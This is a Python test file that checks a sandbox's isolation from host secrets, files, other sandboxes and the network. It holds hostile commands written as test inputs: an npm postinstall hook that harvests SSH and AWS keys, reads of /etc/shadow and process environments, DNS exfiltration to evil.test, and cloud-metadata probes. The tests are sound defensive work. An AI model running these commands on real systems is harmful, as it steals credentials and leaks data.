"""What hostile code must not see or speak to: this program, the machine, its networks, other sandboxes."""

from __future__ import annotations

import asyncio
import json
import os
import socket
import threading
from contextlib import suppress
from pathlib import Path

import pytest

from koda_ray.config import REPO_ROOT
from tests.sandbox.attacks.doing import sh
from tests.sandbox.conftest import AnyProvider, AnySandbox, database_of, gvisor_too
from tests.sandbox.leftovers import Leftovers
from tests.sandbox.refusals import refusals

pytestmark = pytest.mark.sandbox


@gvisor_too
async def test_the_environment_of_the_backend_is_not_there(
    sandbox: AnySandbox, kind: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-very-secret")
    _, text = await sh(
        sandbox, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/*/cmdline | tr '\\0' '\\n'"
    )
    assert "very-secret" not in text and "KODA_OWNER" not in text
    assert refusals(capsys, sandbox.id) == _told(kind, local="bait", docker="bait", gvisor="path")
    mark = _told(kind, gvisor="KODA_COMMAND")
    names = {line.split("=")[0] for line in (await sandbox.run(("env",))).stdout.splitlines()}
    assert names <= {"PATH", "HOME", "TMPDIR", "USER", "LOGNAME", "SHELL", "LANG", "TERM", "NO_COLOR", "CI", "PWD",
                     "NODE_OPTIONS", "npm_config_update_notifier", "VITE_CONFIG_NATIVE_IGNORE_WARNING", "_",
                     *mark}  # fmt: skip


@gvisor_too
async def test_files_of_the_machine_are_not_there(
    sandbox: AnySandbox, kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "keys.txt"
    secret.write_text("the secret")
    secret.chmod(0o644)
    closed = [secret, REPO_ROOT, "/root", "/etc/shadow", "/proc/1/root/etc/shadow"]
    if kind == "local":  # an image has folders of its own
        closed += ["/var", "/run", "/srv", "/boot", "/sys"]
    for path in closed:
        code, text = await sh(sandbox, f"cat {path} || ls {path}/")
        assert code != 0, f"{path}: {text[:200]}"
        if path == "/etc/shadow":
            assert refusals(capsys, sandbox.id) == _told(kind, gvisor="path")
    _, text = await sh(sandbox, "cat /etc/passwd")
    assert "user:" in text and text != Path("/etc/passwd").read_text()


@gvisor_too
async def test_the_database_is_not_there_and_who_reads_it_is_told_of(
    sandbox: AnySandbox, kind: str, boxes: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = database_of(boxes)
    database.write_text("the secret")
    database.chmod(0o644)
    script = f"console.log(require('fs').readFileSync('{database}', 'latin1'))"
    for look in (("cat", str(database)), ("node", "-e", script)):
        done = await sandbox.run(look)
        assert "the secret" not in done.stdout + done.stderr
        assert refusals(capsys, sandbox.id) == _told(kind, local="bait", docker="bait", gvisor="path")
    await sh(sandbox, f"echo mine > {database}; rm {database}; touch -d @0 {database}")
    assert refusals(capsys, sandbox.id) <= _told(kind, gvisor="path")
    _, text = await sh(sandbox, f"cat {database}")
    assert database.read_text() == "the secret"
    if kind == "local" and os.geteuid() != 0:
        return  # what stands there is the sandbox's own user's: it may write there, and set when it was read
    assert "mine" not in text
    assert refusals(capsys, sandbox.id) == _told(kind, local="bait", docker="bait", gvisor="path")


@gvisor_too
async def test_an_install_script_that_looks_for_keys_finds_none_and_is_told_of(
    sandbox: AnySandbox, kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    look = "cat ~/.ssh/* ~/.aws/* ~/.netrc /root/.ssh/* /etc/shadow > src/loot 2>/dev/null; true"
    await sandbox.write_files({"package.json": json.dumps({"scripts": {"postinstall": look}}).encode()})
    npm = "sh -c \"$(node -p 'require(`./package.json`).scripts.postinstall')\""  # as an installer runs it
    for _ in range(2):
        assert (await sh(sandbox, npm))[0] == 0
        loot = (await sandbox.read_file("src/loot")).decode()
        assert set(loot.splitlines()) == {"This is no key. That it was read is written down."}
        assert refusals(capsys, sandbox.id) == {"bait", *_told(kind, gvisor="path")}
    await sh(sandbox, "ls -la ~ ~/.ssh; find / -name 'id_*' >/dev/null 2>&1; echo x > ~/.ssh/id_rsa")
    assert refusals(capsys, sandbox.id) == set(), "to look what is there, or to write, is to read none"


@gvisor_too
async def test_another_sandbox_is_not_there(
    sandbox: AnySandbox,
    provider: AnyProvider,
    kind: str,
    leftovers: Leftovers,
    boxes: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    other = await provider.create(sandbox_id=leftovers.new_id(), session_id="ses_b", user_id="usr_b")
    try:
        await other.write_files({"src/mine.ts": b"another's secret"})
        await other.start("sleeper", ("sleep", "60"))
        _, text = await sh(
            sandbox, f"cat {boxes}/{other.id}/disk/project/src/mine.ts; ps ax 2>/dev/null; ls /proc | grep '^[0-9]'"
        )
        assert "another's secret" not in text and "sleep 60" not in text
        pids = [line for line in text.splitlines() if line.isdigit()]
        assert len(pids) <= 6
        refusals(capsys, sandbox.id)
        _, text = await sh(sandbox, f"ls {boxes}; cat {boxes}/*/disk/project/src/*")
        assert "another's secret" not in text and other.id not in text
        assert refusals(capsys, sandbox.id) == _told(kind, local="bait", docker="bait", gvisor="path")
        await sh(sandbox, "kill -9 -1")
        assert (await other.processes())[0].running
    finally:
        await other.destroy()


async def test_no_descriptor_of_this_program_is_open_inside(sandbox: AnySandbox) -> None:
    listing = (await sandbox.run(("ls", "-l", "/proc/self/fd"))).stdout
    opened = {
        line.split(" -> ")[0].split()[-1]: line.split(" -> ")[1] for line in listing.splitlines() if " -> " in line
    }
    assert set(opened) <= {"0", "1", "2", "3"}, opened
    assert opened["0"] == "/dev/null" and opened["3"].startswith("/proc/")
    await sandbox.start("fds", ("sh", "-c", "ls -l /proc/self/fd; sleep 60"))
    async with asyncio.timeout(60):
        while "3 ->" not in (text := await sandbox.output("fds")):
            await asyncio.sleep(0.02)
    assert "4 ->" not in text


# the network


@gvisor_too
async def test_no_network_is_reachable(sandbox: AnySandbox, capsys: pytest.CaptureFixture[str]) -> None:
    """The machine's loopback (Ray and the API listen there), its other addresses, link-local and the world."""
    listener = socket.create_server(("0.0.0.0", 0))
    port = listener.getsockname()[1]
    reached: list[object] = []
    accepting = threading.Thread(target=lambda: _accept(listener, reached), daemon=True)
    accepting.start()
    with socket.create_connection(("127.0.0.1", port), timeout=60):
        pass
    targets = ["127.0.0.1", "169.254.169.254", "10.0.0.1", "1.1.1.1", *_addresses()]
    script = """
      const net = require("node:net"), dns = require("node:dns");
      const tries = process.argv.slice(2).map((host) => new Promise((done) => {
        const s = net.connect({ host, port: Number(process.argv[1]), timeout: 5000 });
        s.on("connect", () => done(`${host} REACHED`));
        s.on("error", (e) => done(`${host} ${e.code}`));
        s.on("timeout", () => done(`${host} timeout`));
      }));
      tries.push(new Promise((done) => dns.lookup("example.com", (e) => done(e ? `dns ${e.code}` : "dns REACHED"))));
      Promise.all(tries).then((all) => { console.log(all.join("\\n")); process.exit(); });
    """
    done = await sandbox.run(("node", "-e", script, str(port), *targets))
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    accepting.join(60)
    assert "REACHED" not in done.stdout and "127.0.0.1 ECONNREFUSED" in done.stdout, done.stdout + done.stderr
    assert len(reached) == 1  # the check above, from outside
    assert refusals(capsys, sandbox.id) == {"network"}
    lookup = (
        "require('dns').resolve(`${Buffer.from('a secret').toString('hex')}.evil.test`, (e) => console.log(e.code))"
    )
    assert (await sandbox.run(("node", "-e", lookup))).stdout.strip() in ("ECONNREFUSED", "ETIMEOUT")
    assert refusals(capsys, sandbox.id) == {"network"}
    interfaces = await sandbox.run(("node", "-p", "Object.keys(os.networkInterfaces()).join()"))
    assert interfaces.stdout == "lo\n"


@gvisor_too
async def test_a_server_that_listens_everywhere_is_reached_by_nobody(
    sandbox: AnySandbox,
    provider: AnyProvider,
    kind: str,
    leftovers: Leftovers,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Neither from this machine nor from another sandbox: its everywhere is its own loopback."""
    serve = (
        "const s = require('net').createServer((c) => c.end('REACHED'));"
        "s.listen(0, '0.0.0.0', () => console.log(s.address().port))"
    )
    await sandbox.start("server", ("node", "-e", serve))
    async with asyncio.timeout(60):
        while not (text := await sandbox.output("server")).strip():
            await asyncio.sleep(0.05)
    port = text.strip()
    assert port.isdecimal(), text
    async with asyncio.timeout(60):
        while not (told := refusals(capsys, sandbox.id)):  # it is looked for whenever somebody lists processes
            await sandbox.processes()
            await asyncio.sleep(0.02)  # of a local one that is all that gives way, to what is still to be heard of it
    assert told == {"listen"}
    await sandbox.processes()
    assert refusals(capsys, sandbox.id) == set()
    ask = (
        "const s = require('net').connect(process.argv[1], '127.0.0.1');"
        "s.on('data', (data) => console.log(String(data))).on('error', (error) => console.log(error.code))"
    )
    if kind != "local":  # where each command has a loopback of its own
        assert (await sandbox.run(("node", "-e", ask, port))).stdout == "REACHED\n"
    for address in ("127.0.0.1", *_addresses()):
        # where anybody answers, it is some other program of this machine that listens there
        with suppress(OSError), socket.create_connection((address, int(port)), timeout=5) as nobody:
            assert nobody.recv(7) != b"REACHED"
    other = await provider.create(sandbox_id=leftovers.new_id(), session_id="ses_b", user_id="usr_b")
    try:
        assert (await other.run(("node", "-e", ask, port))).stdout == "ECONNREFUSED\n"
    finally:
        await other.destroy()
    await sandbox.start("server", ("node", "-e", serve.replace("0.0.0.0", "127.0.0.1")))
    async with asyncio.timeout(60):
        while not (await sandbox.output("server")).strip():
            await asyncio.sleep(0.05)
    await sandbox.stop("server")
    assert refusals(capsys, sandbox.id) == set()
    await sandbox.start("server", ("node", "-e", serve.replace("'0.0.0.0', ", "")))
    async with asyncio.timeout(60):
        while not (await sandbox.output("server")).strip():
            await asyncio.sleep(0.05)
    await sandbox.stop("server")
    assert refusals(capsys, sandbox.id) == {"listen"}, "it is looked at before it is ended"


async def test_unix_sockets_of_the_machine_are_not_reachable(sandbox: AnySandbox) -> None:
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"koda-test-{os.getpid()}"
    abstract.bind(f"\0{name}")
    abstract.listen()
    done = await sandbox.run(
        ("node", "-e", f'require("net").connect({{path: "\\0{name}"}}).on("connect", () => console.log("REACHED"))'
         '.on("error", (e) => console.log(e.code))'),
    )  # fmt: skip
    abstract.close()
    assert "REACHED" not in done.stdout and done.stdout.strip() in ("ECONNREFUSED", "ENOENT"), done.stdout + done.stderr


def _told(kind: str, **refused: str) -> set[str]:
    """What is told of under one kind of sandbox, which others hear nothing of."""
    return {refused[kind]} if kind in refused else set()


def _accept(listener: socket.socket, reached: list[object]) -> None:
    try:
        while True:
            connection, address = listener.accept()
            reached.append(address)
            connection.close()
    except OSError:
        return


def _addresses() -> list[str]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            return [probe.getsockname()[0]]
        except OSError:
            return []
